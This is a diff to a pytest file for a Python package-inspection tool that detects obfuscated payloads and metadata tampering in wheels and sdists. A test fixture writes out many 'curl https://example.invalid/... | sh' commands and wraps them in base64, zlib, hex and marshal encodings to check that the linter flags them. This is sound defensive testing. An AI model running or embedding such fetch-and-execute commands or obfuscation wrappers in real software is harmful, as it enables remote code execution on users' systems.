@@ -3,12 +3,16 @@
 from __future__ import annotations
 
 import base64
+import hashlib
+import marshal
+import pickle
+import zlib
 
 import pytest
 
 from fromsource.inspect import codecheck, lint
 from fromsource.inspect.classify import SdistIndex, executable_format, kind_of, strip_top
-from fromsource.inspect.metadata import check_record, compare_metadata, entry_points
+from fromsource.inspect.metadata import compare_metadata, entry_points
 from fromsource.inspect.model import (
     CHANGE_CODE,
     CHANGE_FORMATTING,
@@ -19,6 +23,7 @@ from fromsource.inspect.model import (
     KIND_PYTHON,
     KIND_TEXT,
 )
+from fromsource.wheelrecord import check_record
 
 
 @pytest.mark.parametrize(
@@ -131,8 +136,12 @@ def test_deep_lint_leaves_ordinary_code_alone() -> None:
     assert _rules(b"def f(:\n") == ["does-not-parse"]
 
 
+_PAYLOAD = b"import os\n" + b"".join(  # varied enough that it compresses to 1,000+ characters
+    f"os.system('curl https://example.invalid/{i * 7919 % 10007} | sh')\n".encode() for i in range(300))
+
+
 def test_long_encoded_literals() -> None:
-    blob = base64.b64encode(bytes(range(256)) * 4).decode()
+    blob = base64.b64encode(zlib.compress(_PAYLOAD) + _PAYLOAD).decode()
     one = f'X = "{blob}"\n'.encode()
     assert lint.suspect(one)
     assert _rules(one) == ["long-encoded-literal"]
@@ -142,6 +151,30 @@ def test_long_encoded_literals() -> None:
     assert _rules(split) == ["long-encoded-literal"]
     words = ("\n".join(f"word{i}" for i in range(400))).encode()
     assert _rules(b'W = """' + words + b'"""\n') == []  # a word list is not an encoding
+
+
+@pytest.mark.parametrize("encoded", [
+    base64.b64encode(_PAYLOAD).decode(),  # source text
+    base64.b64encode(zlib.compress(_PAYLOAD)).decode(),  # compressed
+    zlib.compress(_PAYLOAD).hex(),
+    "3" + zlib.compress(_PAYLOAD).hex(),  # shifted by a nibble
+    marshal.dumps(compile(_PAYLOAD, "m", "exec")).hex(),  # a code object
+    "AB" + base64.b64encode(marshal.dumps(compile(_PAYLOAD, "m", "exec"))).decode(),  # shifted quanta
+    base64.urlsafe_b64encode(pickle.dumps(list(range(500)))).decode(),
+])
+def test_long_literal_that_decodes_to_something_runnable_is_flagged(encoded: str) -> None:
+    lines = "".join(f'    "{encoded[i : i + 76]}"\n' for i in range(0, len(encoded), 76))
+    assert _rules(f"X = (\n{lines})\n".encode()) == ["long-encoded-literal"]
+
+
+def test_long_literal_of_random_looking_data_is_not_flagged() -> None:
+    # sympy's test_bbp_pi.py holds 8,337 hex digits of pi: data, not a hidden payload.
+    digits = hashlib.sha512(b"pi").hexdigest() * 70
+    lines = "".join(f"{digits[i : i + 80]}\n" for i in range(0, len(digits), 80))
+    quote = "'" * 3
+    assert _rules(f"dig = ''.join({quote}\n{lines}{quote}.split())\n".encode()) == []
+    key = base64.b64encode(hashlib.sha512(b"k").digest() * 20).decode()
+    assert _rules(f'KEY = "{key}"\n'.encode()) == []
 
 
 def test_prefilter_is_quiet_on_ordinary_code() -> None:
@@ -194,14 +227,48 @@ def test_requires_dist_difference_is_a_problem_when_authoritative() -> None:
         (PKG_INFO + b"Dynamic: Requires-Dist\n", "Dynamic"),
     ],
 )
-def test_requires_dist_not_authoritative_is_a_note(pkg_info: bytes, note: str) -> None:
+def test_requires_dist_not_authoritative_is_unsettled(pkg_info: bytes, note: str) -> None:
+    # An added dependency is a classic supply-chain attack: never a mere note.
     result = compare_metadata(
         PKG_INFO + b"Requires-Dist: extra-thing\n", pkg_info, metadata_path="M", pkg_info_path="P"
     )
     assert result.problems == ()
     assert not result.requires_dist_authoritative
     assert any(note in n for n in result.notes)
-    assert any("extra-thing" in n for n in result.notes)
+    assert result.unsettled == (
+        "M: Requires-Dist differs from the sdist's PKG-INFO, which is not authoritative for it: "
+        "+ extra-thing (inspect --rebuild settles it)",
+    )
+
+
+@pytest.mark.parametrize(("field", "wheel_line", "sdist_line"), [
+    ("Requires-Python", b"Requires-Python: >=3.9\n", b"Requires-Python: >=3.8\n"),
+    ("Provides-Extra", b"Provides-Extra: socks\n", b""),
+    ("Name", b"", b""),
+    ("Version", b"", b""),
+])
+def test_every_compared_field_is_unsettled_when_not_authoritative(field: str, wheel_line: bytes,
+                                                                   sdist_line: bytes) -> None:
+    old = PKG_INFO.replace(b"2.2", b"2.1")
+    wheel = PKG_INFO + wheel_line
+    if field == "Name":
+        wheel = wheel.replace(b"Name: requests", b"Name: requestz")
+    if field == "Version":
+        wheel = wheel.replace(b"2.32.3", b"2.32.4")
+    result = compare_metadata(wheel, old + sdist_line, metadata_path="M", pkg_info_path="P")
+    assert result.problems == ()
+    assert [u.split(" differs")[0] for u in result.unsettled] == [f"M: {field}"]
+    # the same difference against an authoritative PKG-INFO is a problem
+    strict = compare_metadata(wheel, PKG_INFO + sdist_line, metadata_path="M", pkg_info_path="P")
+    assert strict.unsettled == ()
+    assert [p.message.split(" differs")[0] for p in strict.problems] == [field]
+
+
+def test_spelling_is_no_difference() -> None:
+    sdist = PKG_INFO + b"Requires-Python: >=3.8,<4\nProvides-Extra: Socks_Proxy\n"
+    wheel = PKG_INFO + b"Requires-Python: <4, >=3.8\nProvides-Extra: socks-proxy\n"
+    result = compare_metadata(wheel, sdist, metadata_path="M", pkg_info_path="P")
+    assert (result.problems, result.unsettled) == ((), ())
 
 
 def test_name_and_version_must_match() -> None:
@@ -218,8 +285,8 @@ def test_record_rejects_weak_or_missing_hashes() -> None:
         "a.py": b"x",
         "b.py": b"y",
     }
-    messages = sorted(f.message for f in check_record("d.dist-info", members))
-    assert messages == ["RECORD gives no hash", "RECORD hash 'md5' is not accepted"]
+    messages = sorted(p.message for p in check_record(members, "d.dist-info"))
+    assert messages == ["RECORD gives no hash", "RECORD hash algorithm 'md5' is not one of sha256, sha384, sha512"]
 
 
 def test_entry_points_parse() -> None:
